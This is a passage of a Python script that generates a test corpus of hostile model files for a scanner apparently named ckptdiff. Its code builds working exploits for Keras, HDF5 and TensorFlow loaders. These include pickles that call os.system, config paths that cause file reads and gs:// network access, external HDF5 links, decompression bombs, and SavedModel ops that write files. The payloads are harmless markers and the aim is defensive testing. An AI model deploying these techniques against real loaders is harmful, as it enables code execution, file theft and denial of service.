        f"config.json: config.layers[1] (class_name {layer}, name lookup).config.vocabulary",
        vocabulary,
        "Keras 3 < 3.12 passed a string vocabulary from the config to tf.io.gfile at load, with safe_mode=True "
        "(local file read; remote schemes such as gs:// reach the network). Keras >= 3.12 writes the vocabulary "
        "into the archive (assets/) and refuses a path in safe mode. The real saver wrote vocabulary null plus the "
        "asset; the config was edited to name the path."
        + (" TextVectorization hands its vocabulary to an internal StringLookup." if layer == "TextVectorization" else ""),
    )


def make_cve_2025_12058_keras() -> None:
    _lookup_keras("cve_2025_12058_stringlookup_local.keras", "StringLookup", probe("stringlookup_local_keras"))
    _lookup_keras("cve_2025_12058_stringlookup_gs.keras", "StringLookup", gs_probe("stringlookup_gs_keras"))
    _lookup_keras("cve_2025_12058_integerlookup_local.keras", "IntegerLookup", probe("integerlookup_local_keras"))
    _lookup_keras("cve_2025_12058_textvectorization_local.keras", "TextVectorization", probe("textvectorization_local_keras"))


def make_injected_model_config_weights_h5() -> None:
    import tf_keras

    file = "cve_2025_12058_injected_model_config.weights.h5"
    model = _keras3_tiny("weights_only")
    with quiet():
        model.save_weights(out(file))
    local, remote = probe("injected_model_config_local"), gs_probe("injected_model_config_gs")
    # The injected config is what a real saver writes: tf_keras get_config of a model whose lookups came from files.
    with tempfile.TemporaryDirectory() as tmp:
        vocab = os.path.join(tmp, "vocab.txt")
        with open(vocab, "w") as f:
            f.write("alpha\nbeta\n")
        inputs = tf_keras.Input(shape=(1,), dtype="string", name="input")
        first = tf_keras.layers.StringLookup(vocabulary=vocab, name="lookup_local")(inputs)
        second = tf_keras.layers.StringLookup(vocabulary=vocab, name="lookup_gs")(inputs)
        injected = tf_keras.Model(inputs, [first, second], name="injected")
        config = {"class_name": injected.__class__.__name__, "config": injected.get_config()}
    layer_by_name(config, "lookup_local")["config"]["vocabulary"] = local
    layer_by_name(config, "lookup_gs")["config"]["vocabulary"] = remote
    h5_rewrite(out(file), {"model_config": json.dumps(config), "keras_version": tf_keras.__version__, "backend": "tensorflow"})
    for name, path, kind in (("lookup_local", local, "file-read"), ("lookup_gs", remote, "network")):
        record(
            file, "CVE-2025-12058", kind,
            f"HDF5 root attribute model_config (injected into a Keras 3 .weights.h5): layer {name} (StringLookup)"
            ".config.vocabulary",
            path,
            "Keras 3 save_weights output plus root attributes model_config/keras_version/backend it never writes. "
            "keras.saving.load_model dispatches any *.h5 name, .weights.h5 included, to the legacy H5 loader, which "
            "builds the model from model_config (reading the vocabulary); ckptdiff check --model would too.",
        )


def make_cve_2026_1462() -> None:
    import keras

    file = "cve_2026_1462_tfsmlayer.keras"
    target = tfsm_probe("cve_2026_1462")
    with tempfile.TemporaryDirectory() as tmp:
        inner = keras.Sequential([keras.Input((4,), name="input"), keras.layers.Dense(2, name="dense")], name="inner")
        exported = os.path.join(tmp, "exported")
        with quiet():
            inner.export(exported, verbose=False)
        inputs = keras.Input((4,), name="input")
        outputs = keras.layers.TFSMLayer(exported, call_endpoint="serve", name="tfsm")(inputs)
        _save_keras(keras.Model(inputs, outputs, name="hostile_tfsm"), out(file))

        def edit(config):
            assert replace_strings(config, exported, target) == 1

        rewrite_keras(out(file), edit_config=edit)
    record(
        file, "CVE-2026-1462", "code-exec",
        "config.json: config.layers[1] (class_name TFSMLayer, name tfsm).config.filepath",
        target,
        "TFSMLayer.from_config loads the SavedModel at filepath (tf.saved_model.load) and calls its endpoint: an "
        "external SavedModel's graph (WriteFile, PyFunc, ...) runs in the victim's process, even with "
        "safe_mode=True, in Keras 3.x before 3.12.1 / 3.13.2 / 3.14.0. Written by Keras 3 around a real exported "
        "SavedModel, then filepath was changed to the probe.",
    )


def make_torch_module_wrapper() -> None:
    file = "cve_2025_49655_torch_module_wrapper.keras"
    _save_keras(_keras3_tiny("hostile_torch"), out(file))
    module_b64 = base64.b64encode(pickle_os_system("cve_2025_49655")).decode()

    def edit(config):
        config["config"]["layers"].insert(2, {
            "module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None, "name": "torch_module",
            "config": {"name": "torch_module", "trainable": True, "module": module_b64},
            "build_config": {"input_shape": [None, 3]},
            "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__",
                                         "config": {"shape": [None, 3], "dtype": "float32", "keras_history": ["dense", 0, 0]}}],
                               "kwargs": {}}],
        })

    rewrite_keras(out(file), edit_config=edit)
    record(
        file, "CVE-2025-49655", "code-exec",
        "config.json: config.layers[2] (class_name TorchModuleWrapper).config.module (base64 of a pickle stream)",
        marker("cve_2025_49655"),
        "TorchModuleWrapper.from_config base64-decodes config.module and calls torch.load(weights_only=False): a bare "
        "pickle (this one: os.system('touch ...'), written by hand) runs on the first unpickle. Hand-crafted layer "
        "entry (torch is not installed here). Guarded by safe mode from Keras 3.11.3; the CVE-2025-49655 <-> "
        "TorchModuleWrapper mapping is from third-party sources (not confirmed in the advisory text).",
    )


def make_npz_pickle() -> None:
    file = "npz_pickle_weights.keras"
    _save_keras(_keras3_tiny("hostile_npz"), out(file), weights_format="npz")
    with zipfile.ZipFile(out(file)) as z:
        npz = z.read("model.weights.npz")
    members = read_zip_bytes(npz)
    names = [name for name, _, _ in members]
    assert "layers/dense.npy" in names, names
    rebuilt = []
    for name, data, compress_type in members:
        if name == "layers/dense.npy":
            data = npy_object_array_with_pickle(pickle_os_system("npz_object_array"))
        rebuilt.append((name, data, compress_type))
    rebuilt.append(("layers/dense_payload.pkl", pickle_os_system("npz_pickle_member"), zipfile.ZIP_STORED))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for name, data, compress_type in rebuilt:
            z.writestr(_zipinfo(name, compress_type), data)
    rewrite_keras(out(file), replace={"model.weights.npz": (buffer.getvalue(), zipfile.ZIP_STORED)})
    record(
        file, "npz-pickle", "code-exec",
        "member model.weights.npz -> its member layers/dense.npy: .npy header {descr: '|O', shape: ()} followed by a "
        "pickle calling os.system",
        marker("npz_object_array"),
        "Keras 3 saving_lib.save_model(weights_format='npz') stores each layer's variables as a pickled object "
        "array; Keras 3.0-3.8 read them with np.load(allow_pickle=True), so this member runs os.system('touch ...') "
        "at load (fixed in 3.9.0: allow_pickle=False). The other members are the real saver's (benign) pickles.",
    )
    record(
        file, "npz-pickle", "code-exec",
        "member model.weights.npz -> its member layers/dense_payload.pkl: a bare pickle stream calling os.system",
        marker("npz_pickle_member"),
        "A non-.npy member: np.load returns its bytes without unpickling; dangerous to any tool that pickle.loads "
        "members of the archive. Written by hand.",
    )


def read_zip_bytes(data: bytes) -> list[tuple[str, bytes, int]]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(i.filename, z.read(i), i.compress_type) for i in z.infolist()]


def make_nested() -> None:
    with tempfile.TemporaryDirectory() as tmp:
        inner_path = os.path.join(tmp, "model.keras")
        _save_keras(_keras3_lambda_model(), inner_path)
        rewrite_keras(inner_path, edit_config=lambda c: swap_code(c, "x", "nested"))
        with open(inner_path, "rb") as f:
            inner = f.read()
    where_inner = "config.json: config.layers[2] (Lambda marker_lambda).config.function {class_name: __lambda__, config.code}"
    note = ("A Keras 3 .keras with a Lambda (marshalled bytecode) carried inside another archive; a loader or a user "
            "that unpacks the outer archive and loads the inner model runs it (Keras refuses the Lambda unless "
            "safe_mode=False or safe mode is bypassed).")

    file = "nested_keras_in_zip.zip"
    write_zip(out(file), [("README.txt", b"model inside\n", zipfile.ZIP_DEFLATED), ("models/model.keras", inner, zipfile.ZIP_STORED)])
    record(file, "nested-archive", "nested", f"zip member models/model.keras -> {where_inner}", marker("nested"), note)

    file = "nested_keras_in_tar.tar.gz"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo("models/model.keras")
        info.size, info.mtime, info.mode, info.uname, info.gname = len(inner), 0, 0o644, "root", "root"
        tar.addfile(info, io.BytesIO(inner))
    gz = io.BytesIO()
    import gzip

    with gzip.GzipFile(fileobj=gz, mode="wb", mtime=0, filename="") as g:
        g.write(buffer.getvalue())
    with open(out(file), "wb") as f:
        f.write(gz.getvalue())
    record(file, "nested-archive", "nested", f"tar member models/model.keras -> {where_inner}", marker("nested"), note)

    file = "nested_keras_in_keras.keras"
    _save_keras(_keras3_tiny("carrier"), out(file))
    rewrite_keras(out(file), add=[("assets/inner/model.keras", inner, zipfile.ZIP_STORED)])
    record(
        file, "nested-archive", "nested", f"member assets/inner/model.keras -> {where_inner}", marker("nested"),
        note + " Keras extracts assets/ members of a .keras to a temporary directory while loading.",
    )


def make_hdf5_shape_bomb() -> None:
    import h5py

    file = "cve_2026_0897_hdf5_shape_bomb.keras"
    _save_keras(_keras3_tiny("hostile_shape"), out(file))
    with zipfile.ZipFile(out(file)) as z:
        weights = z.read("model.weights.h5")
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "model.weights.h5")
        with open(path, "wb") as f:
            f.write(weights)
        with h5py.File(path, "r+") as f:
            group = f["layers/dense/vars"]
            del group["0"]
            # 2**40 float32 elements (4 TiB) declared; chunked with no chunk written, so nothing is stored.
            group.create_dataset("0", shape=(1 << 20, 1 << 20), dtype="float32", chunks=(64, 64))
        with open(path, "rb") as f:
            bombed = f.read()
    rewrite_keras(out(file), replace={"model.weights.h5": (bombed, zipfile.ZIP_STORED)})
    record(
        file, "CVE-2026-0897", "amplification",
        "member model.weights.h5: dataset layers/dense/vars/0 declares shape (1048576, 1048576) float32 (4 TiB), "
        "chunked, no chunk allocated",
        None,
        "Keras 3.0-3.12.0 and 3.13.0 read each weight with dataset[()] / np.array, allocating the declared shape "
        "(memory exhaustion). Reading it allocates; the file stores a few KB.",
    )


def make_hdf5_file_references() -> None:
    """HDF5 features that make *reading a weight* read another file: external storage, external links, VDS."""
    import h5py
    import numpy as np

    # External storage: the dataset's bytes live in a raw file named in the dataset's layout message.
    file = "hdf5_external_storage.keras"
    target = probe("hdf5_external_storage", ".bin")
    _save_keras(_keras3_tiny("hostile_external"), out(file))
    with zipfile.ZipFile(out(file)) as z:
        weights = z.read("model.weights.h5")
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "model.weights.h5")
        with open(path, "wb") as f:
            f.write(weights)
        with h5py.File(path, "r+") as f:
            group = f["layers/dense/vars"]
            shape, dtype = group["0"].shape, group["0"].dtype
            del group["0"]
            group.create_dataset("0", shape=shape, dtype=dtype, external=[(target, 0, int(np.prod(shape)) * dtype.itemsize)])
        h5_rewrite(path, {})
        with open(path, "rb") as f:
            patched = f.read()
    rewrite_keras(out(file), replace={"model.weights.h5": (patched, zipfile.ZIP_STORED)})
    record(
        file, "hdf5-external-storage", "file-read",
        f"member model.weights.h5: dataset layers/dense/vars/0 has external storage ('{target}', offset 0)",
        target,
        "Reading the weight makes HDF5 open and read the named raw file (any local file). Keras 3.12.1 added a "
        "check rejecting datasets with external storage; a CVE id for it was not confirmed.",
    )

    # External link: a group of the weights is a link into another HDF5 file.
    file = "hdf5_external_link.h5"
    target = probe("hdf5_external_link", ".h5")
    with quiet():
        _tf_keras_lambda_free_model().save(out(file))
    with h5py.File(out(file), "r+") as f:
        del f["model_weights/dense_1"]
        f["model_weights/dense_1"] = h5py.ExternalLink(target, "/dense_1")
    h5_rewrite(out(file), {})
    record(
        file, "hdf5-external-link", "file-read",
        f"HDF5 link model_weights/dense_1 is an ExternalLink to '{target}':/dense_1",
        target,
        "tf_keras full-model H5. Opening the group (load_model, load_weights, or any reader that visits "
        "model_weights/) makes HDF5 open the other file. Keras later rejects ExternalLink/SoftLink in H5 weights "
        "(#22899, #22900); a CVE id for it was not confirmed.",
    )

    # Virtual dataset: the dataset maps a selection of a dataset in another file.
    file = "hdf5_virtual_dataset.weights.h5"
    target = probe("hdf5_virtual_dataset", ".h5")
    model = _keras3_tiny("hostile_vds")
    with quiet():
        model.save_weights(out(file))
    with h5py.File(out(file), "r+") as f:
        group = f["layers/dense/vars"]
        shape, dtype = group["0"].shape, group["0"].dtype
        del group["0"]
        layout = h5py.VirtualLayout(shape=shape, dtype=dtype)
        layout[...] = h5py.VirtualSource(target, "data", shape=shape)
        group.create_virtual_dataset("0", layout, fillvalue=0)
    h5_rewrite(out(file), {}, libver="latest")
    record(
        file, "hdf5-virtual-dataset", "file-read",
        f"dataset layers/dense/vars/0 is a virtual dataset whose source is '{target}':/data",
        target,
        "Keras 3 .weights.h5. Reading the weight makes HDF5 open the source file. Keras later rejects virtual "
        "datasets (#22976, KerasFileEditor); a CVE id for it was not confirmed.",
    )


def _tf_keras_lambda_free_model():
    import tf_keras

    tf_keras.utils.set_random_seed(SEED)
    inputs = tf_keras.Input(shape=(4,), name="input")
    hidden = tf_keras.layers.Dense(3, name="dense")(inputs)
    outputs = tf_keras.layers.Dense(2, name="dense_1")(hidden)
    return tf_keras.Model(inputs, outputs, name="plain")


# --------------------------------------------------------------------------- amplification


def _keras_with_config_bytes(file: str, config_bytes_writer, compress_type: int) -> int:
    """A real .keras whose config.json member is replaced by a stream of `config_bytes_writer`. Returns its size."""
    _save_keras(_keras3_tiny("amplify"), out(file))
    members = read_zip(out(file))
    size = 0
    with zipfile.ZipFile(out(file), "w") as z:
        for name, data, member_type in members:
            if name == "metadata.json":
                metadata = json.loads(data)
                metadata["date_saved"] = DATE_SAVED
                data = json.dumps(metadata).encode()
            if name != "config.json":
                # deflate the weights too, so the archive is as small as the bomb allows
                z.writestr(_zipinfo(name, zipfile.ZIP_DEFLATED if name.endswith(".h5") else member_type), data)
                continue
            info = _zipinfo(name, compress_type)
            with z.open(info, "w", force_zip64=False) as f:
                for chunk in config_bytes_writer():
                    f.write(chunk)
                    size += len(chunk)
    return size


def _chunks_repeat(head: bytes, unit: bytes, count: int, tail: bytes, per_chunk: int = 1 << 16):
    yield head
    full, rest = divmod(count, per_chunk)
    block = unit * per_chunk
    for _ in range(full):
        yield block
    yield unit * rest
    yield tail


def make_amplification() -> None:
    # 1. A 10-million-element JSON array in config.json, deflated.
    file = "amplify_json_array_10m.keras"
    count = 10_000_000
    head = b'{"module": "keras", "class_name": "Sequential", "config": {"name": "amplify", "layers": ['
    size = _keras_with_config_bytes(
        file, lambda: _chunks_repeat(head + b"0", b",0", count - 1, b"]}, \"registered_name\": null}"), zipfile.ZIP_DEFLATED
    )
    record(
        file, "json-array-bomb", "amplification",
        f"member config.json (deflate): config.layers is a JSON array of {count:,} zeros ({size:,} bytes inflated)",
        None,
        "Parsing it makes a 10-million-item Python list (~80 MB of pointers, plus the ~20 MB text); a reader that "
        "walks layers does 10 million iterations.",
    )

    # 2. A 20 MB model_config attribute in an H5 file, carried deflated inside a .keras (HDF5 attributes cannot be
    # compressed, so a bare .h5 would be 20 MB on disk).
    file = "amplify_h5_model_config_20mb.keras"
    _save_keras(_keras3_tiny("amplify_h5"), out(file))
    with zipfile.ZipFile(out(file)) as z:
        weights = z.read("model.weights.h5")
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "model.weights.h5")
        with open(path, "wb") as f:
            f.write(weights)
        attribute_size = write_h5_model_config_bomb(path)
        with open(path, "rb") as f:
            bombed = f.read()
    rewrite_keras(out(file), replace={"model.weights.h5": (bombed, zipfile.ZIP_DEFLATED)})
    record(
        file, "h5-attribute-bomb", "amplification",
        f"member model.weights.h5 (deflate): HDF5 root attribute model_config of {attribute_size:,} bytes (a JSON "
        "array of 10 million zeros)",
        None,
        "An H5 attribute is read whole (h5py attrs[...]), then JSON-parsed. The H5 is kept deflated inside a zip so "
        "the corpus stays small; make_attacks.write_h5_model_config_bomb(path) writes the same attribute into a "
        "bare .h5 at test time.",
    )

    # 3. A bzip2 config.json member at a huge ratio.
    file = "amplify_bzip2_config.keras"
    pad = 1 << 30
    head = b'{"module": "keras", "class_name": "Sequential", "config": {"name": "bzip2", "layers": []}, "pad": "'
    size = _keras_with_config_bytes(file, lambda: _chunks_repeat(head, b" ", pad, b'"}', per_chunk=1 << 20), zipfile.ZIP_BZIP2)
    with zipfile.ZipFile(out(file)) as z:
        info = z.getinfo("config.json")
    record(
        file, "bzip2-bomb", "amplification",
        f"member config.json (compression method 12, bzip2): {info.compress_size:,} bytes stored, {info.file_size:,} "
        f"declared and inflated (ratio {info.file_size // max(info.compress_size, 1):,}:1)",
        None,
        "Valid JSON: a 1 GiB string of spaces under key 'pad'. A reader that inflates config.json whole needs 1 GiB "
        "(and json.loads another GiB for the str).",
    )

    # 4. A 200,000-deep nested config, in a .keras and in an H5 attribute.
    depth = 200_000
    file = "amplify_deep_nesting_200k.keras"
    head = b'{"module": "keras", "class_name": "Sequential", "config": {"name": "deep", "layers": ['
    _keras_with_config_bytes(
        file, lambda: iter([head, b'{"config": ' * depth, b"0", b"}" * depth, b"]}}"]), zipfile.ZIP_DEFLATED
    )
    record(
        file, "deep-nesting", "amplification",
        f"member config.json: config.layers[0] is {depth:,} nested objects {{\"config\": {{\"config\": ...}}}}",
        None,
        "Recursive parsers and config walkers hit the recursion limit (RecursionError) or overflow the C stack.",
    )
    file = "amplify_deep_nesting_200k.h5"
    import keras

    with quiet():
        keras.saving.save_model(_keras3_tiny("deep"), out(file))
    set_large_h5_attribute(
        out(file), "model_config",
        '{"class_name": "Functional", "config": {"name": "deep", "layers": [' + "[" * depth + "]" * depth + "]}}",
    )
    record(
        file, "deep-nesting", "amplification",
        f"HDF5 root attribute model_config: config.layers[0] is {depth:,} nested arrays",
        None,
        "A legacy H5 (Keras 3 writer) whose model_config was replaced; 400 KB attribute.",
    )


def set_large_h5_attribute(path: str, name: str, text: str) -> None:
    """Set a root attribute larger than the 64 KiB an HDF5 object header holds (dense attribute storage)."""
    h5_rewrite(path, {name: text}, libver="latest")


def write_h5_model_config_bomb(path: str, count: int = 10_000_000) -> int:
    """Set a `model_config` root attribute of ~2*count bytes (a JSON array of zeros) on the H5 at `path`."""
    text = '{"class_name": "Functional", "config": {"name": "bomb", "layers": [0' + ",0" * (count - 1) + "]}}"
    set_large_h5_attribute(path, "model_config", text)
    return len(text)


# --------------------------------------------------------------------------- TensorFlow graph ops


def _ops_in(path: str) -> dict[str, list[str]]:
    from tensorflow.core.protobuf import saved_model_pb2

    saved_model = saved_model_pb2.SavedModel()
    with open(os.path.join(path, "saved_model.pb"), "rb") as f:
        saved_model.ParseFromString(f.read())
    found: dict[str, list[str]] = {}
    for function in saved_model.meta_graphs[0].graph_def.library.function:
        for node in function.node_def:
            found.setdefault(node.op, []).append(function.signature.name)
    return found


def make_tf_op_savedmodels() -> None:
    import tensorflow as tf

    tf.random.set_seed(SEED)

    # DecodeProtoV2 with a descriptor file.
    directory = "tf_decode_proto_descriptor_savedmodel"
    descriptor = probe("decode_proto", ".desc")

    class DecodeProto(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None], tf.string)])
        def decode(self, serialized):
            return tf.io.decode_proto(serialized, "ckptdiff.Probe", ["value"], [tf.int32], descriptor_source=descriptor)[1][0]

    with quiet():
        module = DecodeProto()
        tf.saved_model.save(module, out(directory), signatures={"serving_default": module.decode})
    assert "DecodeProtoV2" in _ops_in(out(directory))
    record(
        directory, "DecodeProtoV2", "file-read",
        f"saved_model.pb: the serving_default signature's function, node DecodeProtoV2 attr descriptor_source = '{descriptor}'",
        descriptor,
        "A descriptor_source that is not 'local://' or 'bytes://' is a file path: the kernel reads a "
        "FileDescriptorSet from it when the op is constructed (first run of the signature).",
    )

    # Python-calling ops.
    directory = "tf_py_func_savedmodel"

    class PyFuncs(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([2], tf.float32)])
        def numpy_stateful(self, x):
            return tf.numpy_function(lambda a: a, [x], tf.float32, stateful=True)

        @tf.function(input_signature=[tf.TensorSpec([2], tf.float32)])
        def numpy_stateless(self, x):
            return tf.numpy_function(lambda a: a, [x], tf.float32, stateful=False)

        @tf.function(input_signature=[tf.TensorSpec([2], tf.float32)])
        def eager(self, x):
            return tf.py_function(lambda a: a, [x], tf.float32)

    with quiet():
        module = PyFuncs()
        tf.saved_model.save(module, out(directory), signatures={"serving_default": module.numpy_stateful})
    found = _ops_in(out(directory))
    for op, fn in (("PyFunc", "numpy_stateful"), ("PyFuncStateless", "numpy_stateless"), ("EagerPyFunc", "eager")):
        assert op in found, (op, found)
        record(
            directory, op, "code-exec",
            f"saved_model.pb: restored function {fn} ({'also the serving_default signature' if fn == 'numpy_stateful' else 'object graph'}), node {op} attr token",
            None,
            "Calls the Python function registered under its token (pyfunc_N) in the *loading* process: whatever that "
            "process registered under the same token runs. The saved function (an identity lambda) is not stored.",
        )

    # File, network and debugger ops, one restored function each.
    directory = "tf_io_ops_savedmodel"
    marks = {n: fixed_marker(n) for n in ("write_file", "print_v2", "summary", "save_v2", "debug_identity")}
    probes = {n: probe(n, ext) for n, ext in (
        ("read_file", ".txt"), ("matching_files", "*"), ("restore_v2", ""), ("text_line_dataset", ".txt"),
        ("tf_record_dataset", ".tfrecord"), ("fixed_length_record_dataset", ".bin"), ("table_from_text_file", ".txt"),
        ("immutable_const", ".bin"), ("load_dataset", ""), ("load_and_remap_matrix", ""))}
    service = "grpc://127.0.0.1:1"

    def reduce_sum(ds):
        return ds.reduce(tf.constant(0, tf.int64), lambda a, b: a + tf.cast(tf.strings.length(b), tf.int64) if b.dtype == tf.string else a + b)

    class IoOps(tf.Module):
        @tf.function(input_signature=[])
        def write_file(self):
            tf.io.write_file(marks["write_file"], tf.constant("executed"))
            return tf.constant(0)

        @tf.function(input_signature=[])
        def read_file(self):
            return tf.io.read_file(probes["read_file"])

        @tf.function(input_signature=[])
        def matching_files(self):
            return tf.io.matching_files(probes["matching_files"])

        @tf.function(input_signature=[])
        def print_v2(self):
            tf.print("executed", output_stream="file://" + marks["print_v2"])
            return tf.constant(0)

        @tf.function(input_signature=[])
        def summary(self):
            writer = tf.raw_ops.SummaryWriter(shared_name="ckptdiff_probe_writer")
            tf.raw_ops.CreateSummaryFileWriter(writer=writer, logdir=marks["summary"], max_queue=tf.constant(1),
                                               flush_millis=tf.constant(1), filename_suffix=".v2")
            tf.raw_ops.WriteScalarSummary(writer=writer, step=tf.constant(0, tf.int64), tag="x", value=tf.constant(1.0))
            return tf.constant(0)

        @tf.function(input_signature=[])
        def save_v2(self):
            tf.raw_ops.SaveV2(prefix=marks["save_v2"], tensor_names=["x"], shape_and_slices=[""], tensors=[tf.constant(1.0)])
            return tf.constant(0)

        @tf.function(input_signature=[])
        def restore_v2(self):
            return tf.raw_ops.RestoreV2(prefix=probes["restore_v2"], tensor_names=["x"], shape_and_slices=[""], dtypes=[tf.float32])[0]

        @tf.function(input_signature=[])
        def text_line_dataset(self):
            return reduce_sum(tf.data.TextLineDataset(probes["text_line_dataset"]))

        @tf.function(input_signature=[])
        def tf_record_dataset(self):
            return reduce_sum(tf.data.TFRecordDataset(probes["tf_record_dataset"]))

        @tf.function(input_signature=[])
        def fixed_length_record_dataset(self):
            return reduce_sum(tf.data.FixedLengthRecordDataset(probes["fixed_length_record_dataset"], record_bytes=4))

        @tf.function(input_signature=[])
        def table_from_text_file(self):
            table = tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)
            tf.raw_ops.InitializeTableFromTextFileV2(table_handle=table, filename=probes["table_from_text_file"],
                                                     key_index=-2, value_index=-1)
            return tf.raw_ops.LookupTableSizeV2(table_handle=table)

        @tf.function(input_signature=[])
        def immutable_const(self):
            return tf.raw_ops.ImmutableConst(dtype=tf.float32, shape=[2], memory_region_name=probes["immutable_const"])

        @tf.function(input_signature=[])
        def load_dataset(self):
            return reduce_sum(tf.data.Dataset.load(probes["load_dataset"], element_spec=tf.TensorSpec([], tf.int64)))

        @tf.function(input_signature=[])
        def load_and_remap_matrix(self):
            return tf.raw_ops.LoadAndRemapMatrix(
                ckpt_path=probes["load_and_remap_matrix"], old_tensor_name="x", row_remapping=tf.constant([0], tf.int64),
                col_remapping=tf.constant([], tf.int64), initializing_values=tf.constant([], tf.float32),
                num_rows=1, num_cols=1)

        @tf.function(input_signature=[])
        def debug_identity(self):
            return tf.raw_ops.DebugIdentityV2(input=tf.constant(1.0), tfdbg_context_id="c", op_name="o", output_slot=0,
                                              tensor_debug_mode=2, debug_urls=["file://" + marks["debug_identity"]])

        @tf.function(input_signature=[])
        def data_service(self):
            ds = tf.data.experimental.service.from_dataset_id(
                processing_mode="parallel_epochs", service=service, dataset_id="1",
                element_spec=tf.TensorSpec([], tf.int64))
            return reduce_sum(ds)

    with quiet():
        module = IoOps()
        tf.saved_model.save(module, out(directory), signatures={"serving_default": module.write_file})
    found = _ops_in(out(directory))
    expected = [
        ("WriteFile", "write_file", "code-exec", "filename", marks["write_file"], "Writes the file (the marker)."),
        ("ReadFile", "read_file", "file-read", "filename input (Const)", probes["read_file"], "Reads a whole file."),
        ("MatchingFiles", "matching_files", "file-read", "pattern input (Const)", probes["matching_files"],
         "Lists the file system (a glob; the probe is a pattern)."),
        ("PrintV2", "print_v2", "code-exec", "attr output_stream 'file://...'", marks["print_v2"],
         "output_stream file://<path> appends the printed text to that file (a file write, classed code-exec: its effect is the marker)."),
        ("CreateSummaryFileWriter", "summary", "code-exec", "logdir input (Const)", marks["summary"],
         "Creates the logdir and an events file in it; WriteScalarSummary writes to it (a file write)."),
        ("WriteScalarSummary", "summary", "code-exec", "writer from CreateSummaryFileWriter", marks["summary"],
         "Writes an event record into the summary logdir (a file write)."),
        ("SaveV2", "save_v2", "code-exec", "prefix input (Const)", marks["save_v2"],
         "A checkpoint write outside the saver: writes <prefix>.index and <prefix>.data-* (a file write)."),
        ("RestoreV2", "restore_v2", "file-read", "prefix input (Const)", probes["restore_v2"],
         "A checkpoint read outside the saver (opens <prefix>.index)."),
        ("TextLineDataset", "text_line_dataset", "file-read", "filenames input (Const)", probes["text_line_dataset"], "Reads the file line by line."),
        ("TFRecordDataset", "tf_record_dataset", "file-read", "filenames input (Const)", probes["tf_record_dataset"], "Reads TFRecord files."),
        ("FixedLengthRecordDatasetV2", "fixed_length_record_dataset", "file-read", "filenames input (Const)",
         probes["fixed_length_record_dataset"], "Reads fixed-length records."),
        ("InitializeTableFromTextFileV2", "table_from_text_file", "file-read", "filename input (Const)",
         probes["table_from_text_file"], "Fills a lookup table from a text file (a vocabulary read outside Keras)."),
        ("ImmutableConst", "immutable_const", "file-read", "attr memory_region_name", probes["immutable_const"],
         "Memory-maps the named file as a tensor."),
        ("LoadDataset", "load_dataset", "file-read", "path input (Const)", probes["load_dataset"], "Reads a saved tf.data dataset directory."),
        ("LoadAndRemapMatrix", "load_and_remap_matrix", "file-read", "ckpt_path input (Const)", probes["load_and_remap_matrix"],
         "Reads a tensor from a checkpoint at the given path."),
        ("DebugIdentityV2", "debug_identity", "code-exec", "attr debug_urls ['file://...']", marks["debug_identity"],
         "tfdbg op: dumps tensors to the file:// URL (a file write) or to a grpc:// debug server."),
        ("DataServiceDatasetV4", "data_service", "network", "address input (Const) from service", service,
         "tf.data service client: connects to the dispatcher at the address (loopback, closed port, here)."),
    ]
    for op, fn, kind, attr, payload, note in expected:
        assert op in found, (op, sorted(found))
        record(
            directory, op, kind,
            f"saved_model.pb: restored function {fn}" + (" (also the serving_default signature)" if fn == "write_file" else "")
            + f", node {op}, {attr} = '{payload}'",
            payload, note + " Runs when the restored function (or signature) is called after tf.saved_model.load.",
        )


def make_tf1_main_op() -> None:
    import tensorflow as tf

    directory = "tf1_main_op_write_file_savedmodel"
    target = fixed_marker("tf1_main_op")
    graph = tf.Graph()
    with graph.as_default():
        tf.compat.v1.set_random_seed(SEED)
        x = tf.compat.v1.placeholder(tf.float32, [None, 2], name="x")
        w = tf.compat.v1.get_variable("w", initializer=tf.constant([1.0, 2.0]))
        y = tf.identity(x * w, name="y")
        main_op = tf.group(tf.io.write_file(target, tf.constant("executed")), name="ckptdiff_main_op")
        with tf.compat.v1.Session(graph=graph) as sess:
            sess.run(tf.compat.v1.global_variables_initializer())
            builder = tf.compat.v1.saved_model.Builder(out(directory))
            signature = tf.compat.v1.saved_model.predict_signature_def({"x": x}, {"y": y})
            with quiet():
                builder.add_meta_graph_and_variables(
                    sess, ["serve"], signature_def_map={"serving_default": signature}, main_op=main_op, strip_default_attrs=True
                )
                builder.save()
    record(
        directory, "WriteFile", "code-exec",
        f"saved_model.pb: meta_graphs[0] collection saved_model_main_op -> node ckptdiff_main_op -> WriteFile (filename '{target}')",
        target,
        "TF1 SavedModel (tf.compat.v1 Builder): loaders run the main op right after restoring the variables, before "
        "any signature is called (tf.saved_model.load and TF Serving do).",
    )


# --------------------------------------------------------------------------- main


BUILDERS = [
    make_cve_2024_3660_h5,
    make_cve_2024_3660_savedmodels,
    make_residual_wrapper_h5,
    make_cve_2025_12058_h5,
    make_cve_2025_9905_h5,
    make_lambda_loss,
    make_cve_2025_1550,
    make_cve_2025_8747,
    make_cve_2025_9906,
    make_non_modeling_apis,
    make_cve_2025_12058_keras,
    make_injected_model_config_weights_h5,
    make_cve_2026_1462,
    make_torch_module_wrapper,
    make_npz_pickle,
    make_nested,
    make_hdf5_shape_bomb,
    make_hdf5_file_references,
    make_amplification,
    make_tf_op_savedmodels,
    make_tf1_main_op,
]


def _stray_tmp_files() -> set[str]:
    return {n for n in os.listdir("/tmp") if n.startswith(("ckptdiff_marker", "ckptdiff_vocab_probe", "ckptdiff_tfsm_probe"))}


def main() -> int:
    if HERE not in sys.path:
        sys.path.insert(0, HERE)
    os.makedirs(OUT, exist_ok=True)
    for name in os.listdir(OUT):
        if name in KEEP:
            continue
        path = os.path.join(OUT, name)
        shutil.rmtree(path) if os.path.isdir(path) and not os.path.islink(path) else os.remove(path)
    before = _stray_tmp_files()
    with tempfile.TemporaryDirectory() as scratch:
        # Nothing here should run a payload; if something ever did, its marker lands in scratch and fails the run.
